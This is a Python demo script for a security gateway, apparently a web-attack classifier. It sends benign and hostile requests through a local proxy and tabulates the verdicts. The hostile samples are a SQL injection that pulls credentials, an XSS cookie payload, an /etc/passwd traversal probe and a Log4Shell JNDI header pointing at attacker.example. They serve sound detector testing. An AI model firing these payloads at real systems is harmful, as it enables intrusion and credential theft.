"""`clef-gateway demo`: a small origin on loopback, the gateway with the default model in front of it,
and a handful of benign and hostile requests through it, printed as a table.

With --origin the requests go to that origin instead of the demo one. With --once it exits after the
table; otherwise it keeps serving and says where to point curl. The gateway echoes its decision headers
on responses here (headers.echo), so what each request got is visible from the outside.
"""

from __future__ import annotations

import argparse
import json
import logging
import sys
from typing import Any

import aiohttp
from aiohttp import web
from yarl import URL

# (what it is, method, raw path and query, headers, body)
REQUESTS: tuple[tuple[str, str, str, dict[str, str], bytes], ...] = (
    ("a page", "GET", "/", {}, b""),
    ("a static asset", "GET", "/static/app.css", {}, b""),
    ("a search with 'select' in it", "GET", "/search?q=how+to+select+a+good+red+wine", {}, b""),
    (
        "a JSON POST with prose",
        "POST",
        "/api/notes",
        {"Content-Type": "application/json"},
        json.dumps(
            {"title": "Meeting notes", "text": "We agreed to select a new vendor and drop the old table plan."}
        ).encode(),
    ),
    ("SQL injection", "GET", "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", {}, b""),
    ("XSS", "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", {}, b""),
    ("path traversal probe", "GET", "/download?file=../../../../etc/passwd", {}, b""),
    ("Log4Shell header", "GET", "/", {"User-Agent": "${jndi:ldap://attacker.example/a}"}, b""),
)


def origin_app() -> web.Application:
    """The demo origin: a page, a stylesheet, a search, a notes API; each says what the gateway decided."""

    def said(request: web.Request) -> dict[str, str]:
        return {k.lower(): v for k, v in request.headers.items() if k.lower().startswith("x-clef-")}

    async def page(request: web.Request) -> web.Response:
        d = said(request)
        html = (
            "<!doctype html><title>demo origin</title><h1>Hello from the demo origin</h1>"
            f"<p>The gateway decided <b>{d.get('x-clef-decision', '?')}</b> "
            f"({d.get('x-clef-confidence', '?')}, by {d.get('x-clef-source', '?')}).</p>"
        )
        return web.Response(text=html, content_type="text/html")

    async def css(request: web.Request) -> web.Response:
        return web.Response(text="body { font-family: sans-serif; }\n", content_type="text/css",
                            headers={"Cache-Control": "public, max-age=3600"})  # fmt: skip

    async def anything(request: web.Request) -> web.Response:
        body = await request.read()
        return web.json_response(
            {"method": request.method, "path": request.raw_path, "body_bytes": len(body), "gateway": said(request)}
        )

    app = web.Application()
    app.router.add_get("/", page)
    app.router.add_get("/static/app.css", css)
    app.router.add_route("*", "/{tail:.*}", anything)
    return app


async def run(args: argparse.Namespace) -> int:
    from gateway.cli import load, setup_logging, stop_on_signals
    from gateway.server import running

    stop = stop_on_signals()
    runner = None
    if not args.origin:
        runner = web.AppRunner(origin_app(), access_log=None)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        host, port = runner.addresses[0][:2]
        args.origin = f"http://{host}:{port}"
    config = load(args, base={"headers": {"echo": True}})
    setup_logging(config)
    access = logging.getLogger("clef.access")
    try:
        async with running(config) as gw:
            access.disabled = True  # the table says it all; the log lines come back when serving
            rows = await send_all(gw.proxy_url)
            access.disabled = False
            print(table(rows))
            health = gw.decider.health()
            if health.get("status") != "ok":
                print(f"\nnote: {health.get('reason')}")
            if not args.once:
                print(
                    f"\nServing: proxy {gw.proxy_url} -> {config.origin.url}, admin {gw.admin_url}\n"
                    f"Try:  curl -i '{gw.proxy_url}/search?q=%27%20OR%201%3D1--'\n"
                    f"      curl -s {gw.admin_url}/v1/decision -d '{{\"input\": \"<script>alert(1)</script>\"}}'\n"
                    "Ctrl-C stops it.",
                    flush=True,
                )
                await stop.wait()
    finally:
        if runner is not None:
            await runner.cleanup()
    return 0


async def send_all(proxy_url: str) -> list[dict[str, Any]]:
    rows = []
    async with aiohttp.ClientSession(auto_decompress=False) as session:
        for what, method, target, headers, body in REQUESTS:
            url = URL(proxy_url + target, encoded=True)  # as typed: no normalising, no re-encoding
            try:
                async with session.request(method, url, headers=headers, data=body or None) as resp:
                    await resp.read()
                    h = resp.headers
                    rows.append(
                        {
                            "request": f"{what}: {method} {target}",
                            "status": str(resp.status),
                            "decision": h.get("x-clef-decision", "-"),
                            "confidence": h.get("x-clef-confidence", "-"),
                            "source": h.get("x-clef-source", "-"),
                            "features": h.get("x-clef-feature", "") or "-",
                        }
                    )
            except aiohttp.ClientError as err:
                rows.append({"request": f"{what}: {method} {target}", "status": f"error: {err}"})
    return rows


def table(rows: list[dict[str, Any]]) -> str:
    cols = ("request", "status", "decision", "confidence", "source", "features")
    cells = [[_clip(str(r.get(c, "")), 72 if c == "request" else 40) for c in cols] for r in rows]
    widths = [max(len(c), *(len(row[i]) for row in cells)) for i, c in enumerate(cols)]
    line = lambda values: "  ".join(v.ljust(w) for v, w in zip(values, widths)).rstrip()  # noqa: E731
    return "\n".join([line(cols), line(["-" * w for w in widths]), *(line(row) for row in cells)])


def _clip(text: str, width: int) -> str:
    return text if len(text) <= width else text[: width - 1] + "…"


if __name__ == "__main__":
    from gateway.cli import main

    sys.exit(main(["demo", *sys.argv[1:]]))
